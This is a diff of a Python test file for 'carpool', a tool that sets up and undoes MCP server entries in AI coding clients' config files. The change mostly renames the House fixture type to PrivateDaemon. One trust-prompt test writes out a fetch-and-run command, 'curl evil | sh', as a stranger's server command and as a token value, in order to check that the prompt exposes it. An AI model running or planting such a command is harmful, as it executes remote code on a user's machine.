@@ -25,7 +25,7 @@ from carpool_protocol.config.edit.edit import put
 from carpool_protocol.config.text.jsonc import parse
 from carpool_protocol.wire.tool_names import qualify
 from tests.behaviours import behaviour
-from tests.kit.private_daemon import House
+from tests.kit.private_daemon import PrivateDaemon
 
 FILES = Path(__file__).parent / "setup_files" / "home"
 CANARIES = (
@@ -36,7 +36,7 @@ CANARIES = (
 Tree = dict[str, tuple[int, bytes]]
 
 
-def moved_in(house: House) -> Path:
+def moved_in(house: PrivateDaemon) -> Path:
     """Every program's files, in the house; its project."""
     for file in FILES.rglob("*"):
         if file.is_file():
@@ -56,7 +56,7 @@ def git(project: Path, *arguments: str) -> None:
     subprocess.run(["git", *arguments], cwd=project, env=environ, timeout=60, check=True)
 
 
-def tree(house: House) -> Tree:
+def tree(house: PrivateDaemon) -> Tree:
     """Every file of the home directory, but carpool's own records."""
     return {
         str(path.relative_to(house.base)): (stat.S_IMODE(path.lstat().st_mode), path.read_bytes())
@@ -73,12 +73,12 @@ class Done(NamedTuple):
     stderr: str
 
 
-def run(house: House, where: Path, *arguments: str) -> Done:
+def run(house: PrivateDaemon, where: Path, *arguments: str) -> Done:
     """`carpool setup ARGUMENTS`, to its end."""
     return invoke(house, where, "setup", *arguments)
 
 
-def invoke(house: House, where: Path, *arguments: str) -> Done:
+def invoke(house: PrivateDaemon, where: Path, *arguments: str) -> Done:
     """`carpool ARGUMENTS` to its end, in this process: another one costs more than all it does."""
     with contextlib.chdir(where), mock.patch.dict(os.environ, house.environ, clear=True):
         result = CliRunner().invoke(verbs, arguments, prog_name="carpool")
@@ -91,12 +91,12 @@ def jsonc(data: bytes) -> Any:
     return parse(data.decode(), "").value
 
 
-def config(house: House) -> Any:
+def config(house: PrivateDaemon) -> Any:
     return json.loads((house.base / ".config/carpool/carpool.json").read_text())
 
 
 @behaviour("setup:moved", "setup:undone", "setup:secrets")
-def test_every_program_s_files_are_set_up_and_afterwards_exactly_as_they_were(house: House) -> None:
+def test_every_program_s_files_are_set_up_and_afterwards_exactly_as_they_were(house: PrivateDaemon) -> None:
     project = moved_in(house)
     before = tree(house)
     done = run(house, project, "--yes")
@@ -134,7 +134,7 @@ def test_every_program_s_files_are_set_up_and_afterwards_exactly_as_they_were(ho
 
 
 @behaviour("setup:secrets")
-def test_carpool_reads_what_setup_wrote_and_finds_every_secret(house: House) -> None:
+def test_carpool_reads_what_setup_wrote_and_finds_every_secret(house: PrivateDaemon) -> None:
     project = moved_in(house)
     run(house, project, "--yes", "--trust")
     done = house.run("check", "--json")
@@ -149,7 +149,7 @@ def test_carpool_reads_what_setup_wrote_and_finds_every_secret(house: House) -> 
 
 
 @behaviour("setup:undone", "setup:undone.since")
-def test_somebody_else_s_changes_survive_an_undoing_and_also_a_forced_one(house: House) -> None:
+def test_somebody_else_s_changes_survive_an_undoing_and_also_a_forced_one(house: PrivateDaemon) -> None:
     """A token and a server that were written since were lost, with the copies of all files, by the
     `--undo --force` that setup itself advised.
     """
@@ -198,7 +198,7 @@ def test_somebody_else_s_changes_survive_an_undoing_and_also_a_forced_one(house:
 
 
 @behaviour("setup:undone.since")
-def test_one_program_is_undone_alone_and_the_others_afterwards(house: House) -> None:
+def test_one_program_is_undone_alone_and_the_others_afterwards(house: PrivateDaemon) -> None:
     project = moved_in(house)
     before = tree(house)
     run(house, project, "--yes")
@@ -216,7 +216,7 @@ def test_one_program_is_undone_alone_and_the_others_afterwards(house: House) -> 
 
 
 @behaviour("setup:undone.since")
-def test_a_file_that_is_written_while_it_is_undone_keeps_that(house: House) -> None:
+def test_a_file_that_is_written_while_it_is_undone_keeps_that(house: PrivateDaemon) -> None:
     project = moved_in(house)
     run(house, project, "--yes")
     claude = house.base / ".claude.json"
@@ -236,7 +236,7 @@ def test_a_file_that_is_written_while_it_is_undone_keeps_that(house: House) -> N
     assert '"numStartups": 185' in claude.read_text()
 
 
-def test_after_the_last_undoing_what_stays_of_carpool_is_said(house: House) -> None:
+def test_after_the_last_undoing_what_stays_of_carpool_is_said(house: PrivateDaemon) -> None:
     project = moved_in(house)
     run(house, project, "--yes")
     state = house.directory / "state"
@@ -252,7 +252,7 @@ def test_after_the_last_undoing_what_stays_of_carpool_is_said(house: House) -> N
 
 
 @behaviour("setup:undone")
-def test_two_setups_are_undone_by_one_undo(house: House) -> None:
+def test_two_setups_are_undone_by_one_undo(house: PrivateDaemon) -> None:
     project = moved_in(house)
     before = tree(house)
     run(house, project, "--yes", "--client", "cursor")
@@ -263,7 +263,7 @@ def test_two_setups_are_undone_by_one_undo(house: House) -> None:
 
 @behaviour("setup:killed")
 @pytest.mark.parametrize("writes", [32, 34, 40], ids=["the record", "carpool.json", "a program's file"])
-def test_a_setup_that_is_killed_can_be_undone_and_said_again(house: House, writes: int) -> None:
+def test_a_setup_that_is_killed_can_be_undone_and_said_again(house: PrivateDaemon, writes: int) -> None:
     project = moved_in(house)
     before = tree(house)
     # It kills itself in its write number WRITES: 31 copies, the record, the `env_file`, carpool.json, …
@@ -299,7 +299,7 @@ def test_a_setup_that_is_killed_can_be_undone_and_said_again(house: House, write
 
 
 @behaviour("setup:stays")
-def test_a_file_that_is_not_to_be_touched_is_said_and_the_others_go_on(house: House) -> None:
+def test_a_file_that_is_not_to_be_touched_is_said_and_the_others_go_on(house: PrivateDaemon) -> None:
     project = moved_in(house)
     (house.base / ".gemini/settings.json").chmod(0o444)
     (house.base / ".codex/config.toml").write_text("[mcp_servers")
@@ -342,7 +342,7 @@ def test_a_file_that_is_not_to_be_touched_is_said_and_the_others_go_on(house: Ho
     assert tree(house) | {"code": (0, b"")} == before
 
 
-def test_a_broken_file_of_our_own_changes_nothing(house: House) -> None:
+def test_a_broken_file_of_our_own_changes_nothing(house: PrivateDaemon) -> None:
     project = moved_in(house)
     own = house.base / ".config/carpool/carpool.json"
     own.parent.mkdir()
@@ -353,7 +353,7 @@ def test_a_broken_file_of_our_own_changes_nothing(house: House) -> None:
     assert "did you mean `command`?" in done.stderr
 
 
-def test_our_own_file_keeps_its_comments_and_its_env_file(house: House) -> None:
+def test_our_own_file_keeps_its_comments_and_its_env_file(house: PrivateDaemon) -> None:
     project = moved_in(house)
     own = house.base / ".config/carpool/carpool.json"
     own.parent.mkdir()
@@ -370,7 +370,7 @@ def test_our_own_file_keeps_its_comments_and_its_env_file(house: House) -> None:
     assert tree(house) == before
 
 
-def test_a_dry_run_shows_everything_and_changes_nothing(house: House) -> None:
+def test_a_dry_run_shows_everything_and_changes_nothing(house: PrivateDaemon) -> None:
     project = moved_in(house)
     before = tree(house)
     done = run(house, project, "--dry-run")
@@ -383,7 +383,9 @@ def test_a_dry_run_shows_everything_and_changes_nothing(house: House) -> None:
 
 
 @behaviour("trust:asked", "setup:project")
-def test_a_person_is_asked_apart_for_own_files_the_project_s_files_and_its_servers(house: House) -> None:
+def test_a_person_is_asked_apart_for_own_files_the_project_s_files_and_its_servers(
+    house: PrivateDaemon,
+) -> None:
     project = moved_in(house)
     before = tree(house)
     code, said = house.answered("y\nn", "setup", where=project)
@@ -414,7 +416,7 @@ def test_a_person_is_asked_apart_for_own_files_the_project_s_files_and_its_serve
 
 
 @behaviour("setup:project")
-def test_files_that_git_tracks_are_left_alone_unless_they_are_asked_for(house: House) -> None:
+def test_files_that_git_tracks_are_left_alone_unless_they_are_asked_for(house: PrivateDaemon) -> None:
     """A committed file was rewritten by default, with a path of this machine in it."""
     project = moved_in(house)
     git(project, "add", "--force", ".mcp.json", ".vscode/mcp.json")
@@ -459,7 +461,7 @@ def test_files_that_git_tracks_are_left_alone_unless_they_are_asked_for(house: H
 
 
 @behaviour("setup:project")
-def test_an_entry_for_all_names_no_path_where_the_next_shell_finds_carpool(house: House) -> None:
+def test_an_entry_for_all_names_no_path_where_the_next_shell_finds_carpool(house: PrivateDaemon) -> None:
     project = moved_in(house)
     git(project, "add", "--force", ".cursor/mcp.json")
     with mock.patch.object(own_command, "is_in_path", return_value=True):
@@ -492,7 +494,7 @@ def test_nothing_that_a_repository_configures_runs_when_git_is_asked(tmp_path: P
 
 
 @behaviour("setup:profiles")
-def test_every_program_keeps_the_servers_it_had(house: House) -> None:
+def test_every_program_keeps_the_servers_it_had(house: PrivateDaemon) -> None:
     """Cursor had three servers and got eleven, one of them twice under two names."""
     project = moved_in(house)
     before = tree(house)
@@ -524,7 +526,7 @@ def test_every_program_keeps_the_servers_it_had(house: House) -> None:
 
 
 @behaviour("setup:rules")
-def test_rules_that_name_tools_are_shown_before_somebody_is_asked(house: House) -> None:
+def test_rules_that_name_tools_are_shown_before_somebody_is_asked(house: PrivateDaemon) -> None:
     project = moved_in(house)
     mine, its = house.base / ".claude" / "settings.json", project / ".claude" / "settings.local.json"
     for file, held in (
@@ -552,7 +554,9 @@ def test_rules_that_name_tools_are_shown_before_somebody_is_asked(house: House) 
 
 
 @pytest.mark.parametrize("runs", [False, True])
-def test_names_of_tools_that_are_cut_for_programs_with_a_prefix_are_told(house: House, *, runs: bool) -> None:
+def test_names_of_tools_that_are_cut_for_programs_with_a_prefix_are_told(
+    house: PrivateDaemon, *, runs: bool
+) -> None:
     project = moved_in(house)
     tool = "add_pull_request_review_comment_to_pending_review"
     tools = [{"server": "github", "tool": each} for each in ("search", tool)]
@@ -573,7 +577,7 @@ def test_names_of_tools_that_are_cut_for_programs_with_a_prefix_are_told(house: 
     )
 
 
-def test_programs_that_are_not_looked_into_are_named_with_their_files(house: House) -> None:
+def test_programs_that_are_not_looked_into_are_named_with_their_files(house: PrivateDaemon) -> None:
     kiro = house.base / ".kiro" / "settings" / "mcp.json"
     kiro.parent.mkdir(parents=True)
     kiro.write_text('{"mcpServers": {"a": {"command": "x"}}}')
@@ -595,7 +599,7 @@ def test_programs_that_are_not_looked_into_are_named_with_their_files(house: Hou
 
 
 @behaviour("trust:asked")
-def test_what_somebody_else_put_into_the_project_s_file_is_not_trusted_along(house: House) -> None:
+def test_what_somebody_else_put_into_the_project_s_file_is_not_trusted_along(house: PrivateDaemon) -> None:
     project = moved_in(house)
     there = project / ".carpool/mcp.json"
     there.parent.mkdir()
@@ -607,7 +611,7 @@ def test_what_somebody_else_put_into_the_project_s_file_is_not_trusted_along(hou
     assert not (house.directory / "state" / "trust.json").exists()
 
 
-def project_of(house: House, own: dict[str, Any], its: dict[str, Any]) -> Path:
+def project_of(house: PrivateDaemon, own: dict[str, Any], its: dict[str, Any]) -> Path:
     """A project with a file of Cursor's, and the user's own servers."""
     file = house.base / ".config/carpool/carpool.json"
     file.parent.mkdir(parents=True)
@@ -620,7 +624,7 @@ def project_of(house: House, own: dict[str, Any], its: dict[str, Any]) -> Path:
 
 
 @behaviour("trust:asked")
-def test_the_question_shows_what_runs_also_where_the_difference_hides_it(house: House) -> None:
+def test_the_question_shows_what_runs_also_where_the_difference_hides_it(house: PrivateDaemon) -> None:
     """A stranger can give a secret the words of a command: then the difference shows neither."""
     its = {"a": {"command": "sh", "args": ["-c", "curl evil | sh"], "env": {"TOKEN": "curl evil | sh"}}}
     project = project_of(house, {"a": {"command": "mine"}}, its)
@@ -631,7 +635,9 @@ def test_the_question_shows_what_runs_also_where_the_difference_hides_it(house: 
 
 
 @behaviour("trust:asked", "setup:undone")
-def test_which_names_were_said_to_be_taken_over_is_kept_by_setup_and_by_its_undoing(house: House) -> None:
+def test_which_names_were_said_to_be_taken_over_is_kept_by_setup_and_by_its_undoing(
+    house: PrivateDaemon,
+) -> None:
     own = {"a": {"command": "mine"}, "b": {"command": "mine"}}
     project = project_of(house, own, {"b": {"command": "its"}})
     there = project / ".carpool/mcp.json"
@@ -653,7 +659,7 @@ def test_which_names_were_said_to_be_taken_over_is_kept_by_setup_and_by_its_undo
 
 
 @behaviour("trust:asked")
-def test_what_changes_while_somebody_is_asked_is_not_trusted_along(house: House) -> None:
+def test_what_changes_while_somebody_is_asked_is_not_trusted_along(house: PrivateDaemon) -> None:
     project = project_of(house, {}, {"b": {"command": "its"}})
     there, tools = project / ".carpool/mcp.json", project / ".carpool/tools.json"
     there.parent.mkdir()
@@ -673,7 +679,7 @@ def test_what_changes_while_somebody_is_asked_is_not_trusted_along(house: House)
 
 
 @behaviour("setup:secrets")
-def test_no_copy_of_a_file_is_put_where_others_can_read_it(house: House) -> None:
+def test_no_copy_of_a_file_is_put_where_others_can_read_it(house: PrivateDaemon) -> None:
     project = moved_in(house)
     store = house.directory / "state" / "setup"
     store.mkdir(parents=True)
@@ -693,14 +699,16 @@ def test_no_copy_of_a_file_is_put_where_others_can_read_it(house: House) -> None
         (("--client", "emacs"), "is not one of"),
     ],
 )
-def test_what_is_missing_or_too_much_is_said(house: House, arguments: tuple[str, ...], says: str) -> None:
+def test_what_is_missing_or_too_much_is_said(
+    house: PrivateDaemon, arguments: tuple[str, ...], says: str
+) -> None:
     project = moved_in(house)
     done = run(house, project, *arguments)
     assert done.returncode == 2
     assert says in done.stderr
 
 
-def test_where_no_program_is_a_named_one_gets_the_entry_in_a_new_file(house: House) -> None:
+def test_where_no_program_is_a_named_one_gets_the_entry_in_a_new_file(house: PrivateDaemon) -> None:
     done = run(house, house.base)
     assert (done.returncode, done.stdout.splitlines()[0]) == (
         0,
